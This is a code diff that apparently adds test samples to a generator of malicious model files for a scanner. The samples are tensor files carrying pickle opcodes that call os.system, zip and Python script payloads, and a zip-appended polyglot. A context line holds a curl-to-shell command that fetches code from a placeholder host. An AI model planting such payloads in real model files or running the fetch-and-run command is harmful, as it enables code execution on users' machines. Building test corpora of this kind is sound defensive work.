@@ -122,6 +122,13 @@ def _carriers(rng: random.Random) -> Iterator[Unit]:
     yield inside("pickle-in-tensor", "p4", evil)
     yield inside("zip-in-tensor", "torch", zips.torch_zip({"data.pkl": evil, "version": b"3\n"}))
     yield inside("script-in-tensor", "shell", b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n")
+    yield inside("pickle-in-tensor", "p0", b"cos\nsystem\n(S'true'\ntR.")
+    yield inside(
+        "zip-in-tensor", "zipapp", zips.pack({"__main__.py": b"import os\nos.system('true')\n"})
+    )
+    yield inside(
+        "script-in-tensor", "python", b"#!/usr/bin/env python3\nimport os\nos.system('true')\n"
+    )
     weights = safetensors.weights(rng, {"w": (8, 8)})
     appended = weights + zips.pack({"data.pkl": evil, "__main__.py": b"import os\n"})
     yield SAFE.bad("polyglot", "zip-appended", {NAME: appended}, payload="a second reading as zip")
